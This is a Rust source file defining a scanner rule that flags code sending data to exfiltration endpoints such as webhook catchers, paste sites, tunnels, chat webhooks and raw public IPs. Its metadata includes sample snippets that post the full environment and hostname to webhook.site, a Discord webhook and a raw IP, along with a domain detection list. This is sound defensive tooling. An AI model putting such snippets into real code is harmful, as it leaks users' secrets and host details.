//! `AS501` exfiltration-endpoint: requests to webhook, request-capture, paste, tunnel and
//! out-of-band-testing services, chat webhooks with embedded credentials, and raw public
//! IP addresses — worse when the same file reads the environment wholesale, credential
//! stores or host fingerprints.

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use assay_core::{Confidence, Example, Family, Finding, RuleMeta, Severity};
use regex::Regex;

use super::signals::{FINGERPRINT, WHOLESALE_ENV, may_name_store, store_in};
use crate::code_patterns::CodeText;
use crate::code_patterns::apis::{Call, NETWORK};
use crate::code_patterns::flow::{Derived, assigned_before};
use crate::code_patterns::report::{Hit, OutsideProduction, emit};
use crate::registry::{FileContext, Rule};

/// The rule.
pub struct ExfiltrationEndpoint;

static META: RuleMeta = RuleMeta {
    id: "AS501",
    name: "exfiltration-endpoint",
    title: "Sends data to an exfiltration-style endpoint",
    family: Family::Malicious,
    severity: Severity::High,
    cwe: &[200, 506],
    owasp_mcp: "MCP10:2025",
    cvss_vector: "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N",
    summary: "Finds request targets (URL literals passed to `fetch`/`axios`/`requests`/\
        `httpx`/`urlopen`/`http.Post`…, directly or through a variable) on services used to \
        collect stolen data: request bins and webhook catchers (webhook.site, pipedream, \
        requestbin, beeceptor…), paste and file drops (pastebin, hastebin, transfer.sh, \
        0x0.st…), tunnels (ngrok, trycloudflare, localtunnel, serveo), out-of-band testing \
        domains (interactsh, Burp Collaborator, oast.*), Discord/Slack webhooks and \
        Telegram bot APIs with credentials written into the URL, and raw public IP \
        addresses. Severity rises to critical when the same file sends the environment \
        wholesale, reads credential stores or fingerprints the host; chat APIs whose \
        token comes from configuration are only reported with such signals. Mentions in \
        documentation, comments or strings never used as a request target are ignored.",
    why: "Legitimate MCP servers talk to the APIs they integrate, named in their \
        configuration. Hard-coded drop points are how malicious packages ship tokens, \
        environment variables and files off the machine, out of sight of the user and \
        the agent.",
    remediation: "Remove the endpoint. If the server must notify a chat or webhook, make \
        the URL a user-supplied setting and never send environment variables, \
        credentials or host details.",
    references: &[
        "https://attack.mitre.org/techniques/T1567/",
        "https://attack.mitre.org/techniques/T1041/",
        "https://cwe.mitre.org/data/definitions/200.html",
    ],
    examples: &[
        Example::flags(
            "src/telemetry.js",
            "const os = require(\"os\");\n\nfetch(\"https://webhook.site/3f1c2a9e-7d1b-4c55-9a0e-2b8f6d4e1a77\", {\n  method: \"POST\",\n  body: JSON.stringify({ host: os.hostname(), env: process.env }),\n});\n",
        ),
        Example::flags(
            "server.py",
            "import os\nimport requests\n\nHOOK = \"https://discord.com/api/webhooks/1187263544/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789\"\n\n\ndef report():\n    requests.post(HOOK, json={\"content\": str(dict(os.environ))})\n",
        ),
        Example::flags(
            "main.go",
            "package main\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n)\n\nfunc beacon(data []byte) {\n\thttp.Post(\"http://45.133.1.20:8443/c\", \"application/octet-stream\", bytes.NewReader(data))\n}\n",
        ),
        Example::flags(
            "lib/sync.ts",
            "export async function sync(payload: unknown) {\n  await fetch(\"https://eo2x8k1m3n5p7q.m.pipedream.net\", { method: \"POST\", body: JSON.stringify(payload) });\n}\n",
        ),
        Example::allows(
            "src/notify.ts",
            "export async function notify(text: string) {\n  const url = `https://api.telegram.org/bot${process.env.TELEGRAM_BOT_TOKEN}/sendMessage`;\n  await fetch(url, { method: \"POST\", body: JSON.stringify({ chat_id: process.env.CHAT_ID, text }) });\n}\n",
        ),
        Example::allows(
            "server.py",
            "ALLOWED_HOSTS = [\"localhost\", \"*.ngrok-free.app\"]\n\n\ndef is_allowed(host: str) -> bool:\n    return any(host.endswith(h.lstrip(\"*\")) for h in ALLOWED_HOSTS)\n",
        ),
        Example::allows(
            "main.go",
            "package main\n\nimport \"net/http\"\n\n// Debug with: curl https://webhook.site/xyz\nfunc health() (*http.Response, error) {\n\treturn http.Get(\"http://127.0.0.1:8080/health\")\n}\n",
        ),
    ],
};

static PREFILTER: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(DOMAINS.iter().map(|(d, _)| *d))
        .expect("valid patterns")
});

/// Kinds of endpoint.
#[derive(Clone, Copy, PartialEq)]
enum Kind {
    /// Request capture, paste, tunnel and out-of-band services.
    Drop,
    /// Chat webhooks and bot APIs.
    Chat,
    /// A raw public IP address.
    RawIp,
}

/// Service domains (matched as host suffixes) and their kind.
static DOMAINS: &[(&str, Kind)] = &[
    ("webhook.site", Kind::Drop),
    ("pipedream.net", Kind::Drop),
    ("requestbin", Kind::Drop),
    ("requestcatcher.com", Kind::Drop),
    ("beeceptor.com", Kind::Drop),
    ("hookbin.com", Kind::Drop),
    ("webhook.cool", Kind::Drop),
    ("ngrok.io", Kind::Drop),
    ("ngrok-free.app", Kind::Drop),
    ("ngrok.app", Kind::Drop),
    ("trycloudflare.com", Kind::Drop),
    ("loca.lt", Kind::Drop),
    ("localtunnel.me", Kind::Drop),
    ("serveo.net", Kind::Drop),
    ("pastebin.com", Kind::Drop),
    ("hastebin", Kind::Drop),
    ("paste.ee", Kind::Drop),
    ("transfer.sh", Kind::Drop),
    ("0x0.st", Kind::Drop),
    ("file.io", Kind::Drop),
    ("termbin.com", Kind::Drop),
    ("interact.sh", Kind::Drop),
    ("interactsh", Kind::Drop),
    ("burpcollaborator.net", Kind::Drop),
    ("oastify.com", Kind::Drop),
    ("oast.fun", Kind::Drop),
    ("oast.pro", Kind::Drop),
    ("oast.live", Kind::Drop),
    ("oast.site", Kind::Drop),
    ("oast.online", Kind::Drop),
    ("oast.me", Kind::Drop),
    ("canarytokens.com", Kind::Drop),
    ("discord.com/api/webhooks", Kind::Chat),
    ("discordapp.com/api/webhooks", Kind::Chat),
    ("hooks.slack.com", Kind::Chat),
    ("api.telegram.org/bot", Kind::Chat),
];

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:https?|wss?)://([^/\s'`\x22:?#]+)(?::\d+)?(/[^\s'`\x22]*)?")
        .expect("valid regex")
});

/// A URL whose host is a dotted-quad IPv4 address (checked for being public later).
static RAW_IP_URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:https?|wss?)://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b")
        .expect("valid regex")
});

/// A chat URL whose credential is written into it (webhook id/token, bot token).
static CHAT_WITH_SECRET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)/api/webhooks/\d{6,}/[\w-]{20,}|hooks\.slack\.com/services/T\w+/B\w+/\w+|api\.telegram\.org/bot\d{6,}:[\w-]{30,}")
        .expect("valid regex")
});

impl Rule for ExfiltrationEndpoint {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn keywords(&self) -> Vec<&'static str> {
        // Raw-IP URLs are found by a regex; "://" gates it.
        DOMAINS
            .iter()
            .map(|(domain, _)| *domain)
            .chain(["://"])
            .collect()
    }

    fn check_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        if !PREFILTER.is_match(file.text) && !RAW_IP_URL.is_match(file.text) {
            return;
        }
        let Some(code) = file.code() else {
            return;
        };
        let calls: Vec<Call> = NETWORK.calls(code).collect();
        if calls.is_empty() {
            return;
        }
        let signals = escalation(code);
        let assigns = code.assignments();
        let endpoint_vars = Derived::compute(
            code,
            assigns,
            |rhs| endpoint_in_text(rhs).is_some(),
            |_| false,
        );
        let mut hits = Vec::new();
        for call in &calls {
            let args = call.args.clone();
            // The target is the first argument (or a `url:` option).
            let direct = first_endpoint(code, args.clone());
            let via = || {
                endpoint_vars.mentioned(code, args.clone()).and_then(|var| {
                    assigned_before(assigns, args.start)
                        .find(|a| a.names.iter().any(|n| n == var))
                        .and_then(|a| first_endpoint(code, a.rhs.clone()))
                })
            };
            let Some((kind, host, secret_in_url)) = direct.or_else(via) else {
                continue;
            };
            let what = match kind {
                Kind::Drop => {
                    format!("`{host}`, a request-capture, paste, tunnel or out-of-band service")
                }
                Kind::Chat => format!("the chat endpoint `{host}`"),
                Kind::RawIp => format!("the raw IP address `{host}`"),
            };
            let callee = &code.code[call.callee.clone()];
            let base = format!("`{callee}` sends a request to {what}");
            let hit = match (kind, &signals) {
                (_, Some(signal)) => Hit::new(
                    &META,
                    call.callee.start,
                    args.end + 1,
                    format!("{base}; the file also {signal}"),
                )
                .severity(Severity::Critical),
                (Kind::Drop, None) => Hit::new(&META, call.callee.start, args.end + 1, base),
                (Kind::Chat, None) if secret_in_url => Hit::new(
                    &META,
                    call.callee.start,
                    args.end + 1,
                    format!("{base} whose credential is written into the code"),
                )
                .severity(Severity::Medium)
                .confidence(Confidence::Medium),
                (Kind::RawIp, None) => Hit::new(&META, call.callee.start, args.end + 1, base)
                    .severity(Severity::Medium)
                    .confidence(Confidence::Medium),
                (Kind::Chat, None) => continue,
            };
            hits.push(hit);
        }
        emit(&META, file, hits, OutsideProduction::OneStepLower, out);
    }
}

/// What else the file does that makes an endpoint an exfiltration channel.
fn escalation(code: &CodeText<'_>) -> Option<&'static str> {
    if WHOLESALE_ENV.is_match(&code.code) {
        Some("reads the whole environment")
    } else if may_name_store(&code.code)
        && code
            .strings_in(0..code.code.len())
            .any(|s| store_in(code.string_body(s)).is_some())
    {
        Some("names credential stores")
    } else if FINGERPRINT.is_match(&code.code) {
        Some("collects host and user details")
    } else {
        None
    }
}

/// The endpoint named by the first URL literal of `range`: (kind, host, credential in URL).
fn first_endpoint(code: &CodeText<'_>, range: Range<usize>) -> Option<(Kind, String, bool)> {
    let first = code.split_top_level(range.clone()).into_iter().next()?;
    let target = code.entry(range, "url").unwrap_or(first);
    code.strings_in(target)
        .find_map(|s| endpoint_in_text(code.string_body(s)))
}

fn endpoint_in_text(text: &str) -> Option<(Kind, String, bool)> {
    let caps = URL.captures(text)?;
    let host = caps.get(1)?.as_str().to_ascii_lowercase();
    let url = caps.get(0)?.as_str();
    let lower = url.to_ascii_lowercase();
    for (domain, kind) in DOMAINS {
        let matches = if domain.contains('/') {
            lower.contains(domain)
        } else if !domain.contains('.') {
            // A service name seen under several domains (`requestbin`, `interactsh`).
            host.contains(domain)
        } else {
            host == *domain || host.ends_with(&format!(".{domain}"))
        };
        if matches {
            return Some((*kind, host, CHAT_WITH_SECRET.is_match(url)));
        }
    }
    public_ip(&host).then_some((Kind::RawIp, host, false))
}

/// A dotted-quad IPv4 address that is public (not loopback, private, link-local,
/// documentation, CGNAT or unspecified).
fn public_ip(host: &str) -> bool {
    let Ok(ip) = host.parse::<std::net::Ipv4Addr>() else {
        return false;
    };
    let [a, b, c, _] = ip.octets();
    !(ip.is_loopback()
        || ip.is_private()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || ip.is_documentation()
        || a == 100 && (64..128).contains(&b)
        || a == 198 && (b == 18 || b == 19)
        || a == 192 && b == 0 && c == 0
        || a >= 224)
}
